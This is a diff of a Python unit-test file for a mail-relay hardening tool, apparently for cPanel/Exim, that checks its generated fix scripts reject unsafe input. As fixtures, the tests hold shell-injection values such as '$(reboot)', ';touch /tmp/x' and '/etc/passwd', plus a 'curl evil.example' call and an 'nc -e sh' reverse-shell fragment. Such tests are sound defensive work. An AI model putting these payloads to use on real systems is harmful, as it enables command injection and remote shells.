@@ -5,8 +5,8 @@ from __future__ import annotations
 from dataclasses import replace
 
 import pytest
-from relayguard.domain.decide import decide
-from relayguard.domain.models import Generation, Mode, Plan, Policy, Step, StepResult
+from relayguard.domain.decide import assess, decide
+from relayguard.domain.models import Generation, Mode, Plan, Policy, Step, StepName, StepResult
 from relayguard.domain.probe import parse_probe
 from relayguard.domain.script import (
     parse_steps,
@@ -15,7 +15,7 @@ from relayguard.domain.script import (
     render_finish,
     revert_commands,
 )
-from relayguard.errors import ValidationError
+from relayguard.errors import InvalidInput
 
 from tests.unit.samples import LEGACY_EXPOSED, MODERN_EXPOSED, RELAY_REFUSED, hx, probe_text, step_text
 
@@ -24,7 +24,8 @@ EXIM = "/usr/local/cpanel/scripts/restartsrv_exim"
 
 
 def plan_for(facts: dict[str, str], policy: Policy = FIX) -> Plan:
-    return decide(parse_probe(probe_text(facts)), policy)
+    finding = parse_probe(probe_text(facts))
+    return decide(finding, assess(finding), policy)
 
 
 # --- render_disable ----------------------------------------------------------------------------
@@ -54,7 +55,7 @@ def test_an_empty_plan_renders_no_disable_script() -> None:
 
 
 def test_a_plan_without_a_disable_step_renders_no_disable_script() -> None:
-    plan = Plan(Generation.LEGACY, True, steps=(Step("restart-exim", (EXIM,)),), verify_ip="192.0.2.1",
+    plan = Plan(Generation.LEGACY, True, steps=(Step(StepName.RESTART_EXIM, (EXIM,)),), verify_ip="192.0.2.1",
                 verify_sender="relayguard-probe@example.org")
     assert render_disable(plan) == ""
 
@@ -103,27 +104,27 @@ def test_rendering_is_pure() -> None:
 @pytest.mark.parametrize("ip", ["1.2.3.4;touch /tmp/x", "$(reboot)", ""])
 def test_finish_refuses_a_probe_address_that_is_not_an_ip(ip: str) -> None:
     plan = replace(plan_for(MODERN_EXPOSED), verify_ip=ip)
-    with pytest.raises(ValidationError, match="not an IP address"):
+    with pytest.raises(InvalidInput, match="not an IP address"):
         render_finish(plan)
 
 
 @pytest.mark.parametrize("sender", ["a@example.com;reboot", "$(id)@example.com", "a b@example.com", "a@b'c.com", ""])
 def test_finish_refuses_a_sender_with_shell_metacharacters(sender: str) -> None:
     plan = replace(plan_for(MODERN_EXPOSED), verify_sender=sender)
-    with pytest.raises(ValidationError, match="not a plain address"):
+    with pytest.raises(InvalidInput, match="not a plain address"):
         render_finish(plan)
 
 
 def test_finish_refuses_a_sender_with_a_trailing_newline() -> None:
     plan = replace(plan_for(MODERN_EXPOSED), verify_sender="relayguard-probe@example.com\n")
-    with pytest.raises(ValidationError):
+    with pytest.raises(InvalidInput):
         render_finish(plan)
 
 
 @pytest.mark.parametrize("path", ["/etc/passwd", "/etc/relayhosts;reboot", "/etc/recent_authed_mail_ips"])
 def test_finish_refuses_to_truncate_anything_but_the_relayhosts_files(path: str) -> None:
     plan = replace(plan_for(LEGACY_EXPOSED), truncate=(path,))
-    with pytest.raises(ValidationError, match="refusing to truncate"):
+    with pytest.raises(InvalidInput, match="refusing to truncate"):
         render_finish(plan)
 
 
@@ -137,7 +138,8 @@ def test_no_server_data_but_the_validated_ip_and_sender_reaches_the_scripts() ->
         "list.recent_authed_mail_ips_users.hex": hx("203.0.113.9: eve$(curl evil.example)\n"),
         "exc.alwaysrelay.kind": "file", "exc.alwaysrelay.hex": hx("10.0.0.1|nc -e sh\n"),
     }
-    plan = decide(parse_probe(probe_text(hostile)), Policy(mode=Mode.FIX, disable_tracker=True))
+    finding = parse_probe(probe_text(hostile))
+    plan = decide(finding, assess(finding), Policy(mode=Mode.FIX, disable_tracker=True))
     # WHEN both fix scripts render
     text = render_disable(plan) + render_finish(plan)
     # THEN only the validated address and the fallback sender appear
